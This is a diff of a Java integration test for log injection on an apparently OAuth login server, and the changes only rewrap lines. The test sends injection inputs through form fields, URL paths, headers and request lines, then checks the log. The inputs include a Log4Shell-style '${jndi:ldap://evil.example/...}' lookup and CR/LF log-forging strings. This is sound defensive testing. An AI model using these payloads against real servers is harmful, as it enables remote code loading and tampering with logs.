@@ -68,7 +68,8 @@ class LogInjectionIT {
                 form.with(field.name(), payload).sentBy(browser);
             }
             Lintel.browser().authorize(QUICK).signIn(payload, payload);
-            assertThat(browser.authorize(QUICK.with("prompt", "login")).signIn("alice").code()).as("not all that is tried fails").isNotEmpty();
+            assertThat(browser.authorize(QUICK.with("prompt", "login")).signIn("alice").code()).as("not all that is tried fails")
+                    .isNotEmpty();
         }
         theLogIsClean();
     }
@@ -77,7 +78,8 @@ class LogInjectionIT {
     void s19_noAddressReachesTheLogRaw() {
         for (String payload : PAYLOADS) {
             String encoded = Form.encode(payload).replace("+", "%20");
-            for (String address : List.of("/connect/authorize/" + encoded, "/connect/" + encoded, "/connect/token/" + encoded, "/" + encoded,
+            for (String address : List.of("/connect/authorize/" + encoded, "/connect/" + encoded, "/connect/token/" + encoded,
+                    "/" + encoded,
                     "/login?request=" + encoded, "/login?" + encoded + "=x", "/consent?request=" + encoded, "/.well-known/" + encoded,
                     "/connect/userinfo?access_token=" + encoded, "/login;" + encoded)) {
                 assertThat(browser.open(address).status()).isLessThan(500);
@@ -88,7 +90,8 @@ class LogInjectionIT {
 
     /** Bytes that no client library sends; whoever refuses them must not print them either. */
     @ParameterizedTest
-    @ValueSource(strings = {"User-Agent", "Accept-Language", "Accept", "Content-Type", "Origin", "Referer", "Authorization", "X-Forwarded-For",
+    @ValueSource(strings = {"User-Agent", "Accept-Language", "Accept", "Content-Type", "Origin", "Referer", "Authorization",
+            "X-Forwarded-For",
             "X-Forwarded-Proto", "Sec-Fetch-Site", "Cookie", "X-Unheard-Of", "Access-Control-Request-Method"})
     void s19_noHeaderReachesTheLogRaw(String name) {
         for (String value : List.of("x" + ESCAPE + "FORGED", "x\rFORGED", "x\r\n FORGED folded", "${jndi:ldap://evil.example/FORGED}",
@@ -107,7 +110,8 @@ class LogInjectionIT {
     @Test
     void s19_norDoesTheRequestLine() {
         for (String line : List.of("GET /connect/authorize?client_id=" + ESCAPE + "FORGED", "GET /" + ESCAPE + "FORGED",
-                ESCAPE + "FORGED /login", "GET /login?request=x\rFORGED", "FORGED" + ESCAPE, "GET http://evil.example/" + ESCAPE + "FORGED")) {
+                ESCAPE + "FORGED /login", "GET /login?request=x\rFORGED", "FORGED" + ESCAPE,
+                "GET http://evil.example/" + ESCAPE + "FORGED")) {
             Wire.send(server, line, "", "");
         }
         theLogIsClean();
@@ -139,7 +143,8 @@ class LogInjectionIT {
                 .contains("/connect/authorize", "unauthorized_client", "client_id=the-last-one");
         assertThat(log.lines().filter(line -> line.startsWith("FORGED") || line.startsWith(" FORGED"))).isEmpty();
         assertThat(log.lines().filter(line -> line.contains("FORGED"))).allSatisfy(line -> assertThat(line).doesNotContain(ESCAPE)
-                .doesNotContain("${jndi").doesNotContain("\u0085").doesNotContain("\u2028").doesNotContain("\u009b").doesNotContain("\u202e")
+                .doesNotContain("${jndi").doesNotContain("\u0085").doesNotContain("\u2028").doesNotContain("\u009b")
+                .doesNotContain("\u202e")
                 .doesNotContain("\u0000").doesNotContain("\b"));
     }
 }
